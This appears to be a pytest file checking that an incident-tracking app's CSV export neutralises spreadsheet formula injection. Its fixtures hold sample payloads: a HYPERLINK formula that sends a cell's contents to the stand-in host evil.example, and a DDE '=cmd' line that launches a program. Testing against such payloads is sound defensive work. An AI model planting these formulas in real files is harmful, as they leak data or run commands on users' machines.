"""Issue 12, item 4: no CSV CityWall writes for a user carries a formula. Cells of the incident
export that begin with =, +, -, @, tab or CR are prefixed with a single quote (OWASP), text cells
are always quoted, and the numeric columns stay numbers; the text goes through the importer
into a real database (SQLite and PostgreSQL) and out through the export's own writer."""
from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from sqlalchemy.engine import Engine

from components.incident_table import CSV_NUMERIC, csv_text, neutralise_cell
from data_access.incident_list import iter_incidents
from data_access.models import IncidentFilter
from importers import incidents as importer
from tests.conftest import BACKENDS
from tests.town import ZONE, town

DATA = Path(__file__).resolve().parent / "data"
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click me")'


@pytest.fixture(params=BACKENDS)
def engine(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Engine]:
    with town(request.param, tmp_path, grid=True) as eng:
        yield eng


def _import(engine: Engine, tmp_path: Path) -> None:
    mapping = tmp_path / "mapping.toml"
    mapping.write_text((DATA / "town_mapping.toml").read_text(encoding="utf-8")
                       .replace('address = "Address"', 'address = "Address"\ntitle = "Title"'), encoding="utf-8")
    source = tmp_path / "requests.csv"
    rows = [["Request ID", "Type", "State", "Opened", "Closed", "Lat", "Lon", "Address", "Title"],
            ["X1", "Pothole", "Open", "2026-11-02T09:01:00", "", "40.713647", "-73.986009", "\t=1+1", HYPERLINK],
            ["X2", "Pothole", "Open", "2026-11-02T09:02:00", "", "40.705604", "-73.981409", "+49 30 1234",
             "@SUM(A1:A9)"],
            ["X3", "Graffiti", "Open", "2026-11-02T09:03:00", "", "40.706454", "-73.970563", "-2+3",
             "\r=cmd|' /C calc'!A0"]]
    with source.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    summary = importer.import_incidents(engine, path=source, mapping_path=mapping, rejects_path=tmp_path / "r.csv")
    assert summary.imported == 3, str(summary)


def test_exported_cells_never_begin_a_formula(engine: Engine, tmp_path: Path) -> None:
    _import(engine, tmp_path)
    text = csv_text(iter_incidents(engine=engine, filt=IncidentFilter.from_values()), tz=ZoneInfo(ZONE))
    rows = {r["incident_id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert set(rows) == {"town-X1", "town-X2", "town-X3"}
    assert rows["town-X1"]["title"] == "'" + HYPERLINK
    assert rows["town-X1"]["address"].startswith("'") and rows["town-X1"]["address"].endswith("=1+1")
    assert rows["town-X2"]["title"] == "'@SUM(A1:A9)" and rows["town-X2"]["address"] == "'+49 30 1234"
    assert rows["town-X3"]["address"] == "'-2+3" and rows["town-X3"]["title"].startswith("'")
    for row in rows.values():
        for column, cell in row.items():
            if column not in CSV_NUMERIC:
                assert not cell or cell[0] not in "=+-@\t\r", (column, cell)
    # numbers stay numbers: a negative longitude is written bare, text cells are quoted
    assert float(rows["town-X1"]["lon"]) == pytest.approx(-73.986009)
    first = text.splitlines()[1]
    assert ",-73.986009," in first and ',"town-X1",' not in first and first.startswith('"town-X1"')


def test_neutralise_cell_follows_owasp() -> None:
    for bad in ("=1+1", "+1", "-1", "@x", "\t=1", "\r=1"):
        assert neutralise_cell(bad) == "'" + bad
    for fine in ("1 Main St", "", " =1", "a=b", "'=already"):
        assert neutralise_cell(fine) == fine
    assert neutralise_cell(None) is None and neutralise_cell(-3.5) == -3.5


def test_the_export_keeps_its_columns_when_empty() -> None:
    text = csv_text(iter([pd.DataFrame(columns=["incident_id"])]), tz=ZoneInfo(ZONE))
    assert text.startswith("incident_id,category,") and text.count("\n") == 1
